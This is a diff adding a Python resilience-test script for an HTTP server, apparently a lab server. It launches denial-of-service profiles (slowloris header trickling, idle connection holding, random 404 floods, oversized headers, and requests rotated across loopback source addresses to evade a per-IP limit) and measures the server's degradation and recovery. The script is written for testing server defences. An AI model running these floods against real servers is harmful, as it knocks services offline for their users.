@@ -0,0 +1,292 @@
+import sys
+import time
+import random
+import socket
+import threading
+import http.client
+from typing import Dict, List, Optional, Tuple
+
+PROFILES = ["slowloris", "idle", "404storm", "spoofed", "hugeheaders"]
+PROBE_INTERVAL = 0.25  # 4 req/s keeps the probe under the 5 req/s limit
+CONNECT_TIMEOUT = 5.0
+
+
+class Stats:
+    """Thread-safe counters and latencies for one phase or one attack profile."""
+
+    def __init__(self):
+        self.lock = threading.Lock()
+        self.latencies: List[float] = []
+        self.outcomes: Dict[str, int] = {}
+        self.lifetimes: List[float] = []
+
+    def record(self, outcome: str, latency: Optional[float] = None) -> None:
+        with self.lock:
+            self.outcomes[outcome] = self.outcomes.get(outcome, 0) + 1
+            if latency is not None:
+                self.latencies.append(latency)
+
+    def lifetime(self, seconds: float) -> None:
+        with self.lock:
+            self.lifetimes.append(seconds)
+
+
+def percentile(values: List[float], pct: float) -> float:
+    if not values:
+        return 0.0
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, int(len(ordered) * pct / 100))]
+
+
+def attacker_addresses(host: str, count: int) -> List[Optional[str]]:
+    """Source addresses for attackers: distinct loopback IPs when the target is local (Linux), else the default."""
+    if not host.startswith("127.") or not sys.platform.startswith("linux"):
+        return [None]
+    return [f"127.0.{1 + i // 250}.{1 + i % 250}" for i in range(count)]
+
+
+def open_socket(host: str, port: int, source: Optional[str]) -> socket.socket:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(CONNECT_TIMEOUT)
+    if source:
+        s.bind((source, 0))
+    s.connect((host, port))
+    return s
+
+
+def read_status(s: socket.socket) -> str:
+    data = b""
+    while b"\r\n" not in data:
+        chunk = s.recv(4096)
+        if not chunk:
+            return "closed"
+        data += chunk
+    parts = data.split(b"\r\n", 1)[0].split()
+    return parts[1].decode() if len(parts) > 1 else "bad response"
+
+
+def wait_until_closed(s: socket.socket, stop: threading.Event) -> bool:
+    """Block until the server closes the socket; False if we were told to stop first."""
+    s.settimeout(0.5)
+    while not stop.is_set():
+        try:
+            if not s.recv(4096):
+                return True
+        except socket.timeout:
+            continue
+        except OSError:
+            return True
+    return False
+
+
+# attack profiles
+
+def slowloris(host, port, source, stop, stats: Stats) -> None:
+    # keep a request open forever by trickling one header line per second
+    while not stop.is_set():
+        started = time.time()
+        try:
+            s = open_socket(host, port, source)
+            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
+            closed = False
+            while not stop.is_set() and not closed:
+                s.sendall(f"X-{random.randint(0, 10**6)}: y\r\n".encode())
+                s.settimeout(1.0)
+                try:
+                    closed = not s.recv(4096)
+                except socket.timeout:
+                    pass
+            s.close()
+            if closed:
+                stats.lifetime(time.time() - started)
+                stats.record("dropped by server")
+        except OSError as e:
+            stats.record(type(e).__name__)
+            stats.lifetime(time.time() - started)
+
+
+def idle(host, port, source, stop, stats: Stats) -> None:
+    # connect and never send anything
+    while not stop.is_set():
+        started = time.time()
+        try:
+            s = open_socket(host, port, source)
+            if wait_until_closed(s, stop):
+                stats.lifetime(time.time() - started)
+                stats.record("dropped by server")
+            s.close()
+        except OSError as e:
+            stats.record(type(e).__name__)
+            time.sleep(0.1)
+
+
+def storm_404(host, port, source, stop, stats: Stats) -> None:
+    # random missing files, which make LAB1 walk the whole tree
+    while not stop.is_set():
+        path = f"/missing-{random.getrandbits(48):x}.png"
+        started = time.time()
+        try:
+            s = open_socket(host, port, source)
+            s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
+            stats.record(read_status(s), time.time() - started)
+            s.close()
+        except OSError as e:
+            stats.record(type(e).__name__)
+
+
+def spoofed(host, port, sources, stop, stats: Stats) -> None:
+    # legitimate-looking requests rotated over many source addresses to dodge the per-IP limit
+    while not stop.is_set():
+        started = time.time()
+        try:
+            s = open_socket(host, port, random.choice(sources))
+            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+            stats.record(read_status(s), time.time() - started)
+            s.close()
+        except OSError as e:
+            stats.record(type(e).__name__)
+
+
+def huge_headers(host, port, source, stop, stats: Stats) -> None:
+    filler = b"X-Filler: " + b"a" * 8000 + b"\r\n"
+    while not stop.is_set():
+        started = time.time()
+        try:
+            s = open_socket(host, port, source)
+            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n" + filler * 16 + b"\r\n")
+            stats.record(read_status(s), time.time() - started)
+            s.close()
+        except OSError as e:
+            stats.record(type(e).__name__)
+            time.sleep(0.05)
+
+
+def start_attack(profile: str, host: str, port: int, attackers: int,
+                 stop: threading.Event, stats: Stats) -> List[threading.Thread]:
+    if profile == "spoofed":
+        sources = attacker_addresses(host, 250)
+        targets = [(spoofed, sources)] * attackers
+    else:
+        # everything else comes from a single attacker address, separate from the probe's
+        source = attacker_addresses(host, 1)[0]
+        func = {"slowloris": slowloris, "idle": idle, "404storm": storm_404,
+                "hugeheaders": huge_headers}[profile]
+        targets = [(func, source)] * attackers
+    threads = [threading.Thread(target=func, args=(host, port, arg, stop, stats), daemon=True)
+               for func, arg in targets]
+    for t in threads:
+        t.start()
+    return threads
+
+
+# well-behaved probe
+
+def probe(host: str, port: int, path: str, stop: threading.Event, stats: Stats) -> None:
+    while not stop.is_set():
+        started = time.time()
+        try:
+            conn = http.client.HTTPConnection(host, port, timeout=10)
+            conn.request("GET", path)
+            response = conn.getresponse()
+            response.read()
+            conn.close()
+            stats.record(f"HTTP {response.status}", time.time() - started)
+        except (OSError, http.client.HTTPException) as e:
+            stats.record(type(e).__name__, time.time() - started)
+        stop.wait(max(0.0, PROBE_INTERVAL - (time.time() - started)))
+
+
+def run_phase(host: str, port: int, path: str, seconds: float) -> Stats:
+    stats = Stats()
+    stop = threading.Event()
+    t = threading.Thread(target=probe, args=(host, port, path, stop, stats), daemon=True)
+    t.start()
+    time.sleep(seconds)
+    stop.set()
+    t.join()
+    return stats
+
+
+def summarize_probe(name: str, stats: Stats, seconds: float) -> Tuple[float, float]:
+    ok = sum(v for k, v in stats.outcomes.items() if k == "HTTP 200")
+    total = sum(stats.outcomes.values())
+    p50 = percentile(stats.latencies, 50)
+    p99 = percentile(stats.latencies, 99)
+    print(f"{name:<10} {total:>6} {ok / total * 100 if total else 0:>7.1f}% "
+          f"{ok / seconds:>8.2f} {p50 * 1000:>9.0f} {p99 * 1000:>9.0f}   "
+          + ", ".join(f"{k}: {v}" for k, v in sorted(stats.outcomes.items())))
+    return p50, (ok / total if total else 0.0)
+
+
+def run_profile(host: str, port: int, path: str, profile: str, seconds: float, attackers: int) -> None:
+    print(f"\n{'=' * 70}")
+    print(f"Profile: {profile}  ({attackers} attackers for {seconds:.0f}s, probing {path})")
+    print(f"{'=' * 70}")
+
+    baseline = run_phase(host, port, path, seconds / 2)
+
+    attack_stats = Stats()
+    stop = threading.Event()
+    threads = start_attack(profile, host, port, attackers, stop, attack_stats)
+    time.sleep(1.0)  # let the attack ramp up before measuring
+    under_attack = run_phase(host, port, path, seconds)
+    stop.set()
+    for t in threads:
+        t.join(timeout=2)
+
+    recovery = run_phase(host, port, path, seconds / 2)
+
+    print(f"{'phase':<10} {'probes':>6} {'success':>8} {'ok/s':>8} {'p50 ms':>9} {'p99 ms':>9}   outcomes")
+    base_p50, base_ok = summarize_probe("baseline", baseline, seconds / 2)
+    attack_p50, attack_ok = summarize_probe("attack", under_attack, seconds)
+    summarize_probe("recovery", recovery, seconds / 2)
+
+    print(f"\nAttack traffic: " + (", ".join(f"{k}: {v}" for k, v in sorted(attack_stats.outcomes.items()))
+                                  or "no completed attempts"))
+    if attack_stats.latencies:
+        print(f"Attack responses: p50 {percentile(attack_stats.latencies, 50) * 1000:.0f} ms, "
+              f"p99 {percentile(attack_stats.latencies, 99) * 1000:.0f} ms")
+    if attack_stats.lifetimes:
+        print(f"Server dropped held connections after: "
+              f"p50 {percentile(attack_stats.lifetimes, 50):.1f}s, max {max(attack_stats.lifetimes):.1f}s")
+    elif profile in ("slowloris", "idle"):
+        print("Server never dropped held connections during the attack (no timeout?)")
+
+    slowdown = attack_p50 / base_p50 if base_p50 else 0.0
+    print(f"Degradation: probe p50 x{slowdown:.1f}, success {base_ok * 100:.0f}% -> {attack_ok * 100:.0f}%")
+
+
+def main():
+    if len(sys.argv) < 4 or len(sys.argv) > 7:
+        print("Usage: python3 attack_test.py <ip> <port> <profile|all> [seconds] [attackers] [probe_path]")
+        print(f"\nProfiles: {', '.join(PROFILES)}")
+        print("\nExamples:")
+        print("  python3 attack_test.py 127.0.0.1 8001 slowloris 10 50")
+        print("  python3 attack_test.py 127.0.0.1 8000 404storm 10 8 /index.html")
+        sys.exit(1)
+
+    host = sys.argv[1]
+    port = int(sys.argv[2])
+    profile = sys.argv[3]
+    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 10.0
+    attackers = int(sys.argv[5]) if len(sys.argv) > 5 else 20
+    path = sys.argv[6] if len(sys.argv) > 6 else "/"
+    if not path.startswith("/"):
+        path = "/" + path
+
+    profiles = PROFILES if profile == "all" else [profile]
+    for name in profiles:
+        if name not in PROFILES:
+            print(f"Error: unknown profile '{name}'")
+            sys.exit(1)
+
+    try:
+        for name in profiles:
+            run_profile(host, port, path, name, seconds, attackers)
+    except KeyboardInterrupt:
+        print("\n\nTest interrupted by user.")
+        sys.exit(0)
+
+
+if __name__ == "__main__":
+    main()